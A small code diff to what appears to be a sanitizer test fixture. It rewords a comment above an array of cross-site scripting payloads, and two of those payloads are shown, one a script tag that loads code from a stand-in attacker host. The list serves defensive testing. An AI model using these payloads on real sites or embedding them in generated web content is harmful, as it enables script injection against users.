@@ -1,4 +1,4 @@
-/** Attacks on rich text as plain data, one a line: classes from the public cheat sheets and from past sanitizer defects. */
+/** Attacks on a rich text sanitizer: from public XSS cheat sheets, and from past defects of sanitizers. */
 export const XSS_VECTORS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
